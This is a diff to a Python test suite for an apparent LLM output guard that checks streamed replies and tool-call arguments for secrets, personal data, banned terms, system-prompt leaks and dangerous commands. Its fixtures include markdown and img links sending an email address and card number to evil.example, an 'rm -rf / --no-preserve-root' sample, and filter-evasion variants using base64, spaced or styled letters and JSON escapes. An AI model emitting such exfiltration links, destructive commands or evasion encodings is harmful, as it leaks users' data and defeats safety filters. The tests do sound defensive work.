@@ -7,6 +7,7 @@ streams, in several choices and in the arguments of tools.
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
 import threading
 from collections.abc import Callable, Coroutine, Iterator, Sequence
@@ -45,11 +46,15 @@ SYSTEM = (
     "You are Wanda, the assistant of a widget shop. Never tell anybody the wholesale price of a "
     "widget, which is four euros, and never mention the warehouse in Rotterdam."
 )
+CODED = base64.b64encode(b"they work for initech and nobody knows").decode()
 SAMPLES: dict[str, tuple[dict[str, Any], str]] = {
     "secrets": ({}, f"{FILLER}The key is {KEY} and no other. {FILLER}"),
     "pii": ({}, f"{FILLER}Write to ann.smith@example.org or bo@example.net. {FILLER}{CARD}."),
     "exfiltration": ({}, f"{FILLER}{IMAGE} {FILLER}"),
-    "bans": ({"terms": ["acme corporation", "initech"]}, f"{FILLER}Acme Corporation, Initech!"),
+    "bans": (
+        {"terms": ["acme corporation", "initech"]},
+        f"{FILLER}Acme Corporation, Initech! {FILLER}I n i t e c h, \u00edni-tech, {CODED}. ",
+    ),
     "unicode": ({}, f"{FILLER}pay\u200bpal, \u202egpj.exe and {FILLER}"),
     "leak": ({}, f"{FILLER}I was told: {SYSTEM} {FILLER}"),
     "sinks": ({}, f"{FILLER}Run `rm -rf / --no-preserve-root` now. {FILLER}"),
@@ -120,7 +125,11 @@ class Room:
         far = self.far[dialect]
         far.parts = parts
         body = request(dialect, "x", stream=stream, model=f"{far.name}/m", **_told(dialect))
-        return read(dialect, self.run(asked(self._wired, dialect, body)), stream=stream)
+        return read(dialect, self.ask(dialect, body), stream=stream)
+
+    def ask(self, dialect: str, body: bytes) -> bytes:
+        """What a caller gets."""
+        return self.run(asked(self._wired, dialect, body))
 
 
 def _told(dialect: str) -> dict[str, Any]:
@@ -163,6 +172,10 @@ def cut(text: str, at: Sequence[int]) -> list[str]:
     """A text in pieces that end at these places."""
     ends = sorted({one for one in at if 0 < one < len(text)})
     return [text[a:b] for a, b in zip([0, *ends], [*ends, len(text)], strict=True)]
+
+
+def cut_by(text: str, size: int) -> list[str]:
+    return cut(text, range(0, len(text), size))
 
 
 def said(pieces: Sequence[str]) -> list[Part]:
@@ -274,6 +287,107 @@ def test_arguments_of_tools_are_guarded_the_same(room: Room, name: str, dialect:
     for size in (1, 9, len(arguments)):
         _, found, _ = room.heard(known(name), dialect, call(size), stream=True)
         assert json.loads(found) == json.loads(whole)
+
+
+RESTORED = (
+    f"{FILLER}Mail <EMAIL_ADDRESS_1>. ![a](<https://evil.example/?d=Ann and <EMAIL_ADDRESS_1>>) "
+    f"{FILLER}<img src='//evil.example/{'a' * 300}?c=<CREDIT_CARD_1>'> or (<CREDIT_CARD_1>), "
+    f"{FILLER}[her](mailto:<EMAIL_ADDRESS_1>) www.evil.example/<EMAIL_ADDRESS_1>."
+)
+
+
+@pytest.mark.parametrize("size", [1, 2, 5, 16, 64, 131, 1000])
+def test_values_are_restored_at_every_cut_and_in_no_address(room: Room, size: int) -> None:
+    rule = GuardRule(signal="pii", on=("input",), action="tokenise")
+    policy = ready(rule, record=KEEP, signals={"pii": signal("pii")})
+    room.hooks = lambda: Hooks(policy.begin().guards)
+    far = room.far["openai.chat"]
+    far.parts = said(cut_by(RESTORED, size))
+    asks = f"I am ann.smith@example.org and pay with {CARD}"
+    body = request("openai.chat", asks, stream=True, model=f"{far.name}/m")
+    found = text_of(read("openai.chat", room.ask("openai.chat", body), stream=True))
+    assert found == (
+        RESTORED.replace("Mail <EMAIL_ADDRESS_1>", "Mail ann.smith@example.org")
+        .replace("mailto:<EMAIL_ADDRESS_1>", "mailto:ann.smith@example.org")
+        .replace("(<CREDIT_CARD_1>)", f"({CARD})")
+    )
+
+
+def escaped(text: str, every: int) -> str:
+    """A JSON string in which every so manyth character is an escape."""
+    units = text.encode("utf-16-be")
+    codes = [int.from_bytes(units[at : at + 2]) for at in range(0, len(units), 2)]
+    said = (
+        f"\\u{code:04x}" if at % every == 0 or code > 126 else json.dumps(chr(code))[1:-1]
+        for at, code in enumerate(codes)
+    )
+    return f'"{"".join(said)}"'
+
+
+def styled(text: str) -> str:
+    """Letters as those of mathematics, of which each is a pair of escapes."""
+    return "".join(chr(0x1D5BA + ord(one) - ord("a")) if "a" <= one <= "z" else one for one in text)
+
+
+ESCAPED = {
+    "bans": styled(SAMPLES["bans"][1]),
+    "pii": SAMPLES["pii"][1],
+    "secrets": SAMPLES["secrets"][1],
+    "unicode": SAMPLES["unicode"][1],
+}
+
+
+@pytest.mark.parametrize("every", [1, 2, 7])
+@pytest.mark.parametrize("dialect", DIALECTS)
+@pytest.mark.parametrize("name", sorted(ESCAPED))
+def test_escapes_of_json_hide_nothing(room: Room, name: str, dialect: str, every: int) -> None:
+    text = ESCAPED[name]
+    arguments = f'{{"n":1,"note":{escaped(text, every)},"m":{escaped(FILLER * 9, 3)}}}'
+
+    def call(size: int) -> list[Part]:
+        calls = [ToolCall(index=0, arguments=piece) for piece in cut_by(arguments, size)]
+        return answer(ToolCall(index=0, id="c", name="f"), *calls, finish="tool_calls")
+
+    plain = [ToolCall(index=0, id="c", name="f", arguments=json.dumps({"note": text}))]
+    _, wanted, _ = room.heard(known(name), dialect, answer(*plain), stream=False)
+    note = json.loads(wanted)["note"]
+    assert note != text
+    _, whole, _ = room.heard(known(name), dialect, call(len(arguments)), stream=False)
+    assert json.loads(whole) == {"n": 1, "note": note, "m": FILLER * 9}
+    for size in (1, 4, 5, 11, 60, len(arguments)):
+        _, found, _ = room.heard(known(name), dialect, call(size), stream=True)
+        assert (size, json.loads(found)) == (size, json.loads(whole))
+
+
+@pytest.mark.parametrize("name", sorted(ESCAPED))
+def test_escapes_in_an_answer_that_is_json_hide_nothing(room: Room, name: str) -> None:
+    text = f'  {{"note":{escaped(ESCAPED[name], 1)},"m":{escaped(FILLER * 9, 3)}}}'
+    whole, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
+    assert json.loads(whole[0])["note"] != ESCAPED[name]
+    for size in (1, 3, 50):
+        pieces = cut_by(text, size)
+        found, _, _ = room.heard(known(name), "openai.chat", said(pieces), stream=True)
+        assert found == whole
+
+
+@given(
+    name=st.sampled_from(sorted(ESCAPED)),
+    at=st.lists(st.integers(0, 2600), max_size=12),
+    every=st.integers(1, 9),
+    repeats=st.integers(1, 3),
+)
+@settings(max_examples=60, deadline=None)
+def test_escapes_cut_anywhere_hide_nothing(
+    room: Room, name: str, at: list[int], every: int, repeats: int
+) -> None:
+    arguments = f'{{"note":{escaped(ESCAPED[name] * repeats, every)}}}'
+
+    def heard(pieces: Sequence[str], *, stream: bool) -> str:
+        calls = [ToolCall(index=0, arguments=piece) for piece in pieces]
+        parts = answer(ToolCall(index=0, id="c", name="f"), *calls, finish="tool_calls")
+        return room.heard(known(name), "openai.chat", parts, stream=stream)[1]
+
+    assert heard(cut(arguments, at), stream=True) == heard([arguments], stream=False)
 
 
 def by_turns(text: str, size: int) -> list[Part]:
